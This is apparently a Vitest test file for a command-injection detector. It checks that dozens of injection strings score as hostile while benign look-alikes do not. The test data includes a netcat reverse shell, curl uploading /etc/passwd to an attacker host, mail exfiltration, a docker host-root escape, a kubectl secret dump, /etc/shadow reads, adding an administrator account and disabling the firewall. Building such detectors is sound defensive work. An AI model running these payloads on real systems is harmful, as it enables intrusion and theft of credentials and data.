import { describe, expect, it } from 'vitest'
import { familyTotalOf, totalOf } from './scan-score.ts'

describe('arguments that make a program run another one', () => {
  it.each([
    "'-oProxyCommand=nc -e /bin/sh 198.51.100.7 1' x",
    '--gpu-launcher="id"',
    'https://evil.example/a -o b.php',
    'https://evil.example/ --output /srv/www/b.jsp',
    '--output=/var/www/html/b.php',
    '. -exec id {} ;',
    '-c core.sshCommand=id',
    'ext::sh -c id',
    'b--exec=`uname`--c=d',
    '--post-file=x --use-askpass=/tmp/x',
    'ssh://-oProxyCommand=id>/tmp/u/out',
    "-T /tmp/n -TT 'id #'",
    '-K /tmp/in/a.curlrc',
    '--script=/uploads/a.nse',
    '-d @/etc/passwd https://attacker.example/',
    '%pipe%whoami',
    ';(q=id;$q)>/dev/shm/q',
    'a;docker run --rm -v /:/m alpine chroot /m sh',
    ';kubectl -n web get secret -o yaml',
    '{"ntp":"time.example;telnetd -p 98 -l sh"}',
    'Our printer is called "p7";lpstat -a|mailx a@attacker.example;" please come by',
    "'|&{[Diagnostics.Process]::Start('calc')}|'",
    '(shell-command-to-string "id")',
  ])('are denied: %s', (value) => expect(familyTotalOf('cmdi', value)).toBeGreaterThanOrEqual(80))

  it.each([
    '--output=json',
    '--output=report.pdf',
    '--config=app.yml',
    'https://example.com - the best site',
    'https://example.com/a -o my opinion',
    'run it with -o file.txt',
    'find . -name x -exec ls {} +',
    'docker run --rm -v $(pwd):/app node:20 npm test',
    'kubectl get secrets',
    '--script=build',
    'telnetd is off by default',
  ])('are everyday: %s', (value) => expect(totalOf(value)).toBeLessThan(80))
})

describe('scripts around commands', () => {
  it.each([
    'for u in $(ls /home) ; do host "$u.example.net"; done',
    'time if [ $(id|cut -c 1) == u ]; then sleep 9; fi',
    'nohup sleep 90 > /dev/null &',
    'net localgroup administrators eve /add',
    '& netsh advfirewall set allprofiles state off',
    '\nid\nuname -a\nwhoami\nls\n',
    'http://shells.example/x.php?cmd=cat /etc/group',
  ])('are denied: %s', (value) => expect(familyTotalOf('cmdi', value)).toBeGreaterThanOrEqual(80))

  it.each([
    'while you wait; sort the laundry',
    'for item in list; do not forget milk',
    'Python 3',
    'ls 300 lexus',
    'nc 8000 controller',
    'ps 5 games',
    '(Tablet)(?:;| touch;| Emulator;)',
  ])('are not seen in %s', (value) => expect(totalOf(value)).toBeLessThan(60))

  it('are what containers are started with', () => {
    const args = { kind: 'body', where: 'body.json./spec/containers/0/args/2' } as const
    expect(totalOf('n=0; while true; do echo "$n: $(date)" >> /var/log/n.log; sleep 5; done', args)).toBeLessThan(40)
    expect(totalOf('date; echo Hello', args)).toBeLessThan(40)
    const shell = { ...args, where: 'body.json./terminal.shellArgs.linux/1' } as const
    expect(totalOf('source .venv/bin/activate; exec zsh', shell)).toBeLessThan(60)
    expect(totalOf('date; cat /etc/shadow', shell)).toBeGreaterThanOrEqual(80)
    expect(totalOf('date; cat /etc/shadow', args)).toBeGreaterThanOrEqual(80)
    expect(totalOf('198.51.100.7; id', { ...args, where: 'body.json./host' })).toBeGreaterThanOrEqual(80)
  })
})
